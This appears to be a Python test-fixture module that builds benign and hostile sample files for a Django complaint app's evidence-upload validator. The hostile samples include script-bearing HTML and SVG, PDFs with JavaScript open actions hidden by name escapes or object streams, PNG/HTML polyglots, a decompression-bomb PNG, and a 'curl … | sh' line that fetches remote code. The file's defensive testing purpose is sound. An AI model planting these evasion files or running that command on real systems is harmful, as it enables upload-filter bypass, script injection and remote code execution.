"""Real, small evidence files made in memory, allowed and hostile.

Each function returns bytes. The allowed ones are what a phone, a bank app
or a spreadsheet program really produces (as far as the sniffing library is
concerned); the hostile ones are what the upload check must refuse.
"""

from __future__ import annotations

import functools
import io
import struct
import wave
import zipfile
import zlib

from PIL import Image

# --- Images --------------------------------------------------------------------


def _image(size=(64, 48), color=(200, 30, 40), mode="RGB") -> Image.Image:
    image = Image.new(mode, size, color)
    # A little structure, so encoders do not collapse everything.
    for x in range(0, size[0], 4):
        image.putpixel((x, x % size[1]), (0, 0, 0) if mode == "RGB" else 0)
    return image


def _save(image: Image.Image, fmt: str, **kwargs) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **kwargs)
    return out.getvalue()


def jpeg(size=(64, 48), color=(200, 30, 40), **kwargs) -> bytes:
    return _save(_image(size, color), "JPEG", quality=90, **kwargs)


def jpeg_with_gps(size=(640, 480)) -> bytes:
    """A camera-like JPEG whose EXIF says where it was taken."""
    exif = Image.Exif()
    exif[0x010F] = "TestPhone"  # Make
    exif[0x0110] = "Model 1"  # Model
    gps = {
        1: "N",  # GPSLatitudeRef
        2: (31.0, 14.0, 0.0),  # GPSLatitude
        3: "E",
        4: (121.0, 28.0, 0.0),
    }
    exif[0x8825] = gps  # GPSInfo IFD
    return _save(_image(size), "JPEG", quality=90, exif=exif)


def png(size=(64, 48), color=(30, 160, 40)) -> bytes:
    return _save(_image(size, color), "PNG")


def webp(size=(64, 48)) -> bytes:
    return _save(_image(size, (20, 20, 200)), "WEBP", quality=80)


def gif(size=(64, 48)) -> bytes:
    return _save(_image(size, (250, 200, 0)).convert("P"), "GIF")


def heic(size=(64, 48)) -> bytes:
    from pillow_heif import register_heif_opener

    register_heif_opener()
    return _save(_image(size, (10, 120, 120)), "HEIF", quality=80)


# --- Documents -----------------------------------------------------------------


def pdf() -> bytes:
    return _save(_image((100, 140), (255, 255, 255)), "PDF", resolution=72.0)


def _pdf_file(objects: list[bytes]) -> bytes:
    """A PDF 1.4 file with the given objects (1 0 obj …) and a classic xref."""
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
        % (len(objects) + 1, xref)
    )
    return out.getvalue()


_PDF_PAGES = [
    b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
]


def pdf_with_javascript() -> bytes:
    """A hand-written PDF whose open action runs JavaScript."""
    return _pdf_file(
        [*_PDF_PAGES, b"<< /Type /Action /S /JavaScript /JS (app.alert\\('hi'\\);) >>"]
    )


def pdf_with_escaped_javascript_name() -> bytes:
    """The same, spelling the names with #xx escapes (PDF 1.7 section 7.3.5:
    /J#61vaScript is the name /JavaScript)."""
    return _pdf_file(
        [*_PDF_PAGES, b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\);) >>"]
    )


def pdf_with_javascript_in_object_stream() -> bytes:
    """A PDF 1.5 file whose JavaScript action sits in a compressed object
    stream, found through a cross-reference stream (what many PDF writers
    produce by default): the bytes never spell /JavaScript."""
    out = io.BytesIO()
    out.write(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in enumerate(_PDF_PAGES, start=1):
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    action = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\);) >>"
    header = b"4 0 "
    packed = zlib.compress(header + action)
    offsets[5] = out.tell()
    out.write(
        b"5 0 obj\n<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\n"
        % (len(header), len(packed))
        + b"stream\n"
        + packed
        + b"\nendstream\nendobj\n"
    )
    offsets[6] = out.tell()
    rows = [struct.pack(">BIH", 0, 0, 0xFFFF)]
    for number in range(1, 7):
        if number == 4:
            rows.append(struct.pack(">BIH", 2, 5, 0))  # in object stream 5, index 0
        else:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
    xref = zlib.compress(b"".join(rows))
    out.write(
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R "
        b"/Filter /FlateDecode /Length %d >>\nstream\n"
        % len(xref)
        + xref
        + b"\nendstream\nendobj\n"
    )
    out.write(b"startxref\n%d\n%%%%EOF\n" % offsets[6])
    return out.getvalue()


def xlsx() -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["日期", "金额", "说明"])
    sheet.append(["2025-06-01", 1000, "冻结的结算款"])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def xlsx_with_macros() -> bytes:
    """A workbook that carries a VBA project (what Excel stores as .xlsm)."""
    source = zipfile.ZipFile(io.BytesIO(xlsx()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, source.read(info))
        target.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 512)
    return out.getvalue()


def text_utf8() -> bytes:
    return (
        "2025年6月1日 客服：您的机器已停用，结算款将在30个工作日内退回。\n"
        "2025年6月2日 我：押金什么时候退？\n"
    ).encode()


def text_gb18030() -> bytes:
    return (
        "商户编号 831290157220001 的机器于2025年6月1日被停用。\n"
        "客服称结算款冻结，押金不退。\n"
    ).encode("gb18030")


def csv_text() -> bytes:
    return (
        "交易时间,商户编号,金额,状态\n"
        "2025-05-30 10:01,831290157220001,1000.00,冻结\n"
        "2025-05-31 11:20,831290157220001,250.50,冻结\n"
    ).encode()


# --- Audio and video -----------------------------------------------------------


def _box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def _iso_bmff(major: bytes, compatible: list[bytes]) -> bytes:
    ftyp = _box(b"ftyp", major + struct.pack(">I", 0x200) + b"".join(compatible))
    return ftyp + _box(b"free", b"") + _box(b"mdat", b"\x00" * 256)


def mp4() -> bytes:
    return _iso_bmff(b"isom", [b"isom", b"iso2", b"avc1", b"mp41"])


def mov() -> bytes:
    return _iso_bmff(b"qt  ", [b"qt  "])


def m4a() -> bytes:
    return _iso_bmff(b"M4A ", [b"M4A ", b"mp42", b"isom"])


def mp3() -> bytes:
    # ID3v2.3 header with no frames, then MPEG-1 Layer III frames
    # (128 kbit/s, 44.1 kHz: 417 bytes each).
    id3 = b"ID3\x03\x00\x00\x00\x00\x00\x00"
    frame = b"\xff\xfb\x90\x64" + b"\x00" * 413
    return id3 + frame * 8


def amr() -> bytes:
    # AMR-NB, mode 7 (12.2 kbit/s): a header byte then 31 bytes per frame.
    return b"#!AMR\n" + (b"\x3c" + b"\x00" * 31) * 10


def wav() -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as audio:
        audio.setnchannels(1)
        audio.setsampwidth(2)
        audio.setframerate(8000)
        audio.writeframes(b"\x00\x01" * 800)
    return out.getvalue()


# --- Hostile -------------------------------------------------------------------


def html() -> bytes:
    return b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n"


def svg() -> bytes:
    return (
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
        b'width="10" height="10"><script>alert(1)</script></svg>\n'
    )


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(kind + data) & 0xFFFFFFFF
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)


def png_html_polyglot_text_chunk() -> bytes:
    """A valid PNG that carries a web page in a tEXt chunk before IEND."""
    data = png()
    iend = data.rindex(b"IEND") - 4
    payload = b"Comment\x00<html><script>alert(document.domain)</script></html>"
    return data[:iend] + _png_chunk(b"tEXt", payload) + data[iend:]


def png_html_polyglot_appended() -> bytes:
    """A valid PNG with a web page after IEND (browsers that sniff run it)."""
    return png() + b"<html><body><script>alert(1)</script></body></html>"


def png_html_polyglot_event_handler() -> bytes:
    """A valid PNG followed by an HTML tag that runs script through an event
    handler, with no <script>, <html> or <body> anywhere."""
    return png() + b"<img src=x onerror=alert(document.domain)>"


@functools.lru_cache
def png_huge_dimensions(width=20000, height=20000) -> bytes:
    """A complete, valid black-and-white PNG of width×height pixels that
    compresses to a few kilobytes: the decompression-bomb shape (a 20000×20000
    image is 400 megapixels, over a gigabyte once decoded to RGB)."""
    ihdr = _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    compressor = zlib.compressobj(9)
    line = b"\x00" * (1 + (width + 7) // 8)  # filter byte + 1 bit per pixel
    idat = b"".join(compressor.compress(line) for _ in range(height))
    idat += compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + ihdr
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def truncated_jpeg() -> bytes:
    data = jpeg(size=(128, 96))
    return data[: len(data) // 2]


def truncated_png() -> bytes:
    data = png(size=(128, 96))
    return data[: len(data) // 2]


def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("receipt.txt", "商户编号 831290157220001")
    return out.getvalue()


def elf_executable() -> bytes:
    """A 64-bit little-endian ELF header for an x86-64 executable."""
    ident = b"\x7fELF\x02\x01\x01" + b"\x00" * 9
    header = ident + struct.pack(
        "<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0
    )
    return header + b"\x00" * 128


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


def empty() -> bytes:
    return b""


def oversize(limit: int) -> bytes:
    """limit + 1 bytes of otherwise acceptable plain text."""
    line = b"0123456789 abcdefghij\n"
    data = line * (limit // len(line) + 1)
    return data[: limit + 1]


# name → (bytes factory, upload name, stored content type)
ACCEPTED = {
    "jpeg": (jpeg, "停机通知.jpg", "image/jpeg"),
    "png": (png, "screenshot.png", "image/png"),
    "webp": (webp, "chat.webp", "image/webp"),
    "gif": (gif, "receipt.gif", "image/gif"),
    "heic": (heic, "IMG_0001.HEIC", "image/heic"),
    "pdf": (pdf, "合同.pdf", "application/pdf"),
    "mp4": (mp4, "screen-recording.mp4", "video/mp4"),
    "mov": (mov, "IMG_0002.MOV", "video/quicktime"),
    "m4a": (m4a, "客服通话.m4a", "audio/mp4"),
    "mp3": (mp3, "call.mp3", "audio/mpeg"),
    "amr": (amr, "录音.amr", "audio/amr"),
    "wav": (wav, "call.wav", "audio/wav"),
    "text-utf8": (text_utf8, "聊天记录.txt", "text/plain"),
    "text-gb18030": (text_gb18030, "说明.txt", "text/plain"),
    "csv": (csv_text, "流水.csv", "text/csv"),
    "xlsx": (
        xlsx,
        "账单.xlsx",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
}


# --- Shared test helpers -------------------------------------------------------


def use_evidence_storage(settings, location):
    """Point the evidence storage at `location` for one test.

    The `settings` fixture fires `setting_changed`, which resets Django's
    storage handler; `Evidence.file` resolves `storages["evidence"]` on every
    call (complaints.models.EvidenceStorage), so saving, reading and deleting
    all follow. The configured options (file modes) are kept.
    """
    from django.core.files.storage import storages

    config = settings.STORAGES["evidence"]
    assert config["BACKEND"] == "django.core.files.storage.FileSystemStorage"
    settings.STORAGES = {
        **settings.STORAGES,
        "evidence": {
            **config,
            "OPTIONS": {**config.get("OPTIONS", {}), "location": str(location)},
        },
    }
    return storages["evidence"]


def attach(
    complaint,
    data: bytes | None = None,
    name: str = "screenshot.png",
    *,
    kind: str = "screenshot",
    purpose: str = "终端停用通知",
    actor=None,
):
    """Store `data` (a PNG by default) as evidence of `complaint` through the
    real service, as its owner."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    from complaints import services

    return services.evidence_add(
        actor=actor or complaint.owner,
        complaint=complaint,
        uploaded_file=SimpleUploadedFile(name, png() if data is None else data),
        kind=kind,
        purpose=purpose,
    )
